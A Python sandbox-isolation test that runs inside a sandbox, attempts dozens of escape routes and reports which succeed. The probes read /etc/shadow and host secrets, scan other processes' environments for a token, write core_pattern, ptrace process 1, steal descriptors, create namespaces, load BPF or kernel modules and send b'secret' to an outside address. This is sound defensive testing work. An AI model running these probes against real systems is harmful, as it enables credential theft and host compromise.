"""A program that tries to get out of its sandbox. Prints one JSON object: attempt -> "kept in: …" or "ESCAPED: …".

Run inside with one argument, a JSON object of facts about the host; `only` names the attempts to make (all, if empty). Standard library only.
"""

# ruff: noqa: PTH103, PTH110, PTH112, PTH115, PTH118, PTH123, PTH208, PTH211, SIM115 - descriptors and raw paths are the point here
from __future__ import annotations

import ctypes
import errno
import json
import os
import resource
import signal
import socket
import sys
from collections.abc import Callable

LIBC = ctypes.CDLL(None, use_errno=True)
HOST = json.loads(sys.argv[1])
ATTEMPTS: dict[str, Callable[[], str | None]] = {}


class KeptIn(Exception):
    pass


def attempt(function: Callable[[], str | None]) -> Callable[[], str | None]:
    """Registers an attempt: it escaped if it returns text; it was kept in if it raises or returns None."""
    ATTEMPTS[function.__name__] = function
    return function


def call(name: str, *arguments: object) -> str:
    """A raw system call (x86-64 and aarch64 numbers); raises when the kernel refuses."""
    x86 = {
        "unshare": 272, "mount": 165, "chroot": 161, "ptrace": 101, "process_vm_readv": 310, "add_key": 248, "keyctl": 250,
        "io_uring_setup": 425, "bpf": 321, "perf_event_open": 298, "userfaultfd": 323, "mknodat": 259, "setuid": 105,
        "clone": 56, "clone3": 435, "name_to_handle_at": 303, "open_by_handle_at": 304, "setns": 308, "pivot_root": 155,
        "personality": 135, "sethostname": 170, "reboot": 169, "kexec_load": 246, "init_module": 175, "fsopen": 430,
        "open_tree": 428, "pidfd_open": 434, "pidfd_getfd": 438, "memfd_secret": 447, "mount_setattr": 442, "fanotify_init": 300,
        "swapon": 167, "settimeofday": 164, "syslog": 103, "acct": 163, "quotactl": 179,
    }  # fmt: skip
    arm = {
        "unshare": 97, "mount": 40, "chroot": 51, "ptrace": 117, "process_vm_readv": 270, "add_key": 217, "keyctl": 219,
        "io_uring_setup": 425, "bpf": 280, "perf_event_open": 241, "userfaultfd": 282, "mknodat": 33, "setuid": 146,
        "clone": 220, "clone3": 435, "name_to_handle_at": 264, "open_by_handle_at": 265, "setns": 268, "pivot_root": 41,
        "personality": 92, "sethostname": 161, "reboot": 142, "kexec_load": 104, "init_module": 105, "fsopen": 430,
        "open_tree": 428, "pidfd_open": 434, "pidfd_getfd": 438, "memfd_secret": 447, "mount_setattr": 442, "fanotify_init": 262,
        "swapon": 224, "settimeofday": 170, "syslog": 116, "acct": 89, "quotactl": 60,
    }  # fmt: skip
    number = (arm if os.uname().machine == "aarch64" else x86)[name]
    result = LIBC.syscall(ctypes.c_long(number), *arguments)
    if result < 0:
        raise KeptIn(errno.errorcode[ctypes.get_errno()])
    return f"{name} gave {result}"


def write(path: str, text: str) -> str:
    with open(path, "w") as file:
        file.write(text)
    return f"wrote {path}"


# --- files -----------------------------------------------------------------------------------------------------------------


@attempt
def reads_the_houses_secret() -> str:
    return open(HOST["secret"]).read()


@attempt
def reads_another_jobs_folder() -> str:
    return open(HOST["other"]).read()


@attempt
def lists_the_house() -> str:
    return str(os.listdir(HOST["house"]))


@attempt
def climbs_out_of_its_input_folder() -> str:
    return open(os.path.join(HOST["in"], "..", "..", "secret.key")).read()


@attempt
def follows_a_link_laid_in_its_input() -> str:
    return open(os.path.join(HOST["in"], "link")).read()


@attempt
def reads_the_secret_through_the_root_of_process_1() -> str:
    return open("/proc/1/root" + HOST["secret"]).read()


@attempt
def reads_the_password_hashes() -> str:
    return open("/etc/shadow").read()


@attempt
def lists_the_callers_home() -> str | None:
    names = os.listdir(HOST["home"])
    return str(names) if set(names) & set(HOST["home_names"]) - {".pyenv", ".local"} else None


@attempt
def writes_its_input() -> str:
    return write(os.path.join(HOST["in"], "spec.json"), "changed")


@attempt
def writes_the_system() -> str:
    return write("/usr/bin/lilong-escape", "x")


@attempt
def writes_the_python_installation() -> str:
    return write(os.path.join(sys.prefix, "escape.pth"), "x")


@attempt
def writes_the_houses_own_code() -> str:
    return write(os.path.join(HOST["package"], "escape.py"), "x")


@attempt
def fills_the_root_file_system() -> str:
    return write("/escape", "x")


@attempt
def fills_the_device_file_system() -> str:
    return write("/dev/escape", "x")


@attempt
def links_a_file_of_the_input_into_the_output() -> str:
    os.link(os.path.join(HOST["in"], "spec.json"), os.path.join(HOST["out"], "linked"))
    return "linked"


@attempt
def opens_the_memory_device() -> str:
    return str(os.open("/dev/mem", os.O_RDONLY))


@attempt
def opens_a_disk() -> str | None:
    for name in ("vda", "sda", "nvme0n1", "loop0", "mapper/control", "fuse", "kvm", "kmsg"):
        try:
            os.close(os.open(f"/dev/{name}", os.O_RDONLY))
        except OSError:
            continue
        return name
    return None


@attempt
def makes_a_device_node() -> str:
    return call("mknodat", -100, os.path.join(HOST["out"], "disk").encode(), 0o60666, (254 << 8))


@attempt
def sets_the_core_pattern() -> str:
    return write("/proc/sys/kernel/core_pattern", "|/tmp/escape")


@attempt
def writes_a_global_setting() -> str:
    return write("/proc/sys/vm/overcommit_memory", "1")


@attempt
def pulls_the_sysrq_trigger() -> str:
    return write("/proc/sysrq-trigger", "h")


@attempt
def reads_kernel_addresses_or_memory() -> str | None:
    for name in ("kcore", "kmsg", "kpageflags", "timer_list"):
        try:
            if os.read(os.open(f"/proc/{name}", os.O_RDONLY | os.O_NONBLOCK), 16):
                return name
        except OSError:
            continue
    return None


@attempt
def writes_to_control_groups() -> str:
    for path in ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/unified/cgroup.procs"):
        if os.path.exists(path):
            return write(path, str(os.getpid()))
    raise KeptIn("none to be seen")


@attempt
def opens_by_file_handle() -> str:
    handle = (ctypes.c_uint32 * 64)()
    handle[0] = 128
    mount = ctypes.c_int()
    call("name_to_handle_at", -100, HOST["in"].encode(), ctypes.byref(handle), ctypes.byref(mount), 0)
    return call("open_by_handle_at", os.open(HOST["in"], os.O_RDONLY), ctypes.byref(handle), 0)


# --- other processes -------------------------------------------------------------------------------------------------------


@attempt
def finds_a_secret_in_some_environment() -> str | None:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if HOST["token"].encode() in open(f"/proc/{pid}/environ", "rb").read():
                return pid
        except OSError:
            continue
    return None


@attempt
def finds_the_houses_paths_in_some_command_line() -> str | None:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == os.getpid() or int(pid) == 2:
            continue
        try:
            text = open(f"/proc/{pid}/cmdline", "rb").read()
        except OSError:
            continue
        if b"--args" in text.split(b"\0")[:20] and HOST["house"].encode() in text.split(b"\0--\0")[0]:
            return pid
    return None


@attempt
def sees_the_hosts_processes() -> str | None:
    return "seen" if os.path.exists(f"/proc/{HOST['pid']}") and HOST["pid"] > 50 else None


@attempt
def kills_a_host_process() -> str:
    os.kill(HOST["pid"], 0)
    return "may send signals"


@attempt
def traces_process_1() -> str:
    return call("ptrace", 16, 1, 0, 0)


@attempt
def reads_the_memory_of_process_1() -> str:
    return call("process_vm_readv", 1, None, 0, None, 0, 0)


@attempt
def steals_a_descriptor() -> str:
    process = int(call("pidfd_open", os.getppid(), 0).split()[-1])
    try:
        return call("pidfd_getfd", process, 0, 0)
    finally:
        os.close(process)


@attempt
def finds_an_inherited_descriptor() -> str | None:
    extra = []
    for name in os.listdir("/proc/self/fd"):
        try:
            extra += [os.readlink(f"/proc/self/fd/{name}")] if int(name) > 2 else []
        except OSError:
            continue
    extra = [name for name in extra if not name.endswith("/fd")]
    return str(extra) if extra else None


# --- network ---------------------------------------------------------------------------------------------------------------


@attempt
def reaches_a_service_on_the_hosts_loopback() -> str:
    return str(socket.create_connection(("127.0.0.1", HOST["port"]), timeout=2).recv(64))


@attempt
def reaches_an_abstract_socket_of_the_host() -> str:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect("\0" + HOST["abstract"])
        return str(connection.recv(64))


@attempt
def reaches_a_unix_socket_of_the_host_by_its_path() -> str:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(HOST["unix"])
        return str(connection.recv(64))


@attempt
def sends_a_datagram_to_the_world() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        return str(connection.sendto(b"secret", ("192.0.2.1", 53)))


@attempt
def opens_a_socket_to_the_hypervisor() -> str:
    socket.socket(40, socket.SOCK_STREAM)
    return "AF_VSOCK"


@attempt
def opens_a_packet_socket() -> str:
    socket.socket(17, socket.SOCK_RAW)
    return "AF_PACKET"


@attempt
def opens_the_kernels_crypto() -> str:
    socket.socket(38, socket.SOCK_SEQPACKET)
    return "AF_ALG"


# --- the kernel ------------------------------------------------------------------------------------------------------------


@attempt
def makes_a_user_namespace() -> str:
    return call("unshare", 0x10000000)


@attempt
def makes_a_user_namespace_by_clone() -> str:
    result = LIBC.syscall(ctypes.c_long(220 if os.uname().machine == "aarch64" else 56), 0x10000000 | int(signal.SIGCHLD), 0, 0, 0, 0)
    if result == 0:
        os._exit(0)
    if result < 0:
        raise KeptIn(errno.errorcode[ctypes.get_errno()])
    os.waitpid(result, 0)
    return "cloned"


@attempt
def makes_a_user_namespace_by_clone3() -> str:
    arguments = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, int(signal.SIGCHLD))
    result = LIBC.syscall(ctypes.c_long(435), ctypes.byref(arguments), 88)
    if result == 0:
        os._exit(0)
    if result < 0:
        raise KeptIn(errno.errorcode[ctypes.get_errno()])
    return "cloned"


@attempt
def mounts_over_its_input() -> str:
    return call("mount", b"tmpfs", HOST["in"].encode(), b"tmpfs", 0, 0)


@attempt
def remounts_its_input_writable() -> str:
    return call("mount", 0, HOST["in"].encode(), 0, 4096 | 32, 0)


@attempt
def opens_a_file_system() -> str:
    return call("fsopen", b"proc", 0)


@attempt
def clones_a_mount() -> str:
    return call("open_tree", -100, b"/", 1)


@attempt
def joins_a_namespace() -> str:
    return call("setns", os.open("/proc/1/ns/mnt", os.O_RDONLY), 0)


@attempt
def changes_its_root() -> str:
    return call("chroot", b"/tmp")


@attempt
def becomes_root() -> str:
    return call("setuid", 0)


@attempt
def has_any_capability() -> str | None:
    status = dict(line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
    held = {key: status[key] for key in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb") if int(status[key], 16)}
    return str(held) if held else None


@attempt
def may_gain_privileges_by_exec() -> str | None:
    return None if "NoNewPrivs:\t1" in open("/proc/self/status").read() else "no_new_privs is off"


@attempt
def puts_a_key_in_the_keyring() -> str:
    return call("add_key", b"user", b"escape", b"x", 1, -5)


@attempt
def reads_the_keyring() -> str:
    return call("keyctl", 0, -3, 0)


@attempt
def sets_up_an_io_ring() -> str:
    return call("io_uring_setup", 8, ctypes.byref((ctypes.c_uint32 * 64)()))


@attempt
def loads_a_program_into_the_kernel() -> str:
    return call("bpf", 0, ctypes.byref((ctypes.c_uint64 * 16)(1, 4, 4, 4)), 128)


@attempt
def watches_the_machines_counters() -> str:
    return call("perf_event_open", ctypes.byref((ctypes.c_uint64 * 16)(0 | 112 << 32)), 0, -1, -1, 0)


@attempt
def handles_page_faults_of_the_kernel() -> str:
    return call("userfaultfd", 0)


@attempt
def loads_a_module() -> str:
    return call("init_module", b"", 0, b"")


@attempt
def reads_the_kernels_log() -> str:
    return call("syslog", 3, ctypes.create_string_buffer(64), 64)


@attempt
def sets_the_clock() -> str:
    return call("settimeofday", ctypes.byref((ctypes.c_long * 2)(0, 0)), 0)


@attempt
def renames_the_host() -> str:
    return call("sethostname", b"escape", 6)


@attempt
def switches_off_address_randomisation() -> str:
    return call("personality", 0x0040000)


@attempt
def types_into_the_terminal() -> str:
    import fcntl

    fcntl.ioctl(0, 0x5412, b"x")
    return "typed"


@attempt
def finds_shared_memory_of_the_host() -> str:
    if LIBC.shmget(HOST["shared_memory"], 16, 0) < 0:
        raise KeptIn("not there")
    return "attached"


@attempt
def raises_its_own_limit() -> str:
    resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    return "raised"


@attempt
def writes_a_file_larger_than_its_limit() -> str | None:
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    with open(os.path.join(HOST["out"], "large"), "wb", buffering=0) as file:
        for _ in range(64):
            file.write(bytes(1 << 20))
    return "wrote 64 MiB"


@attempt
def fills_the_temporary_folder() -> str:
    with open("/dev/shm/large" if os.path.isdir("/dev/shm") else "/tmp/large", "wb", buffering=0) as file:
        for _ in range(64):
            if file.write(bytes(1 << 20)) < 1 << 20:
                raise KeptIn("full")
    return "wrote 64 MiB"


@attempt
def lays_traps_in_its_output() -> None:
    """Not an escape by itself: the collector must not fall into them."""
    out = HOST["out"]
    os.makedirs(os.path.join(out, "traps"), exist_ok=True)
    for name, target in (("secret", HOST["secret"]), ("shadow", "/etc/shadow"), ("folder", HOST["house"])):
        os.symlink(target, os.path.join(out, "traps", name))


def main() -> None:
    told = {}
    for name, function in ATTEMPTS.items():
        if HOST["only"] and name not in HOST["only"]:
            continue
        try:
            result = function()
        except (OSError, KeptIn, ValueError, KeyError, PermissionError) as error:
            told[name] = f"kept in: {type(error).__name__} {error}"
        else:
            told[name] = "kept in" if result is None else f"ESCAPED: {result[:200]}"
    print(json.dumps(told))


if __name__ == "__main__":
    main()
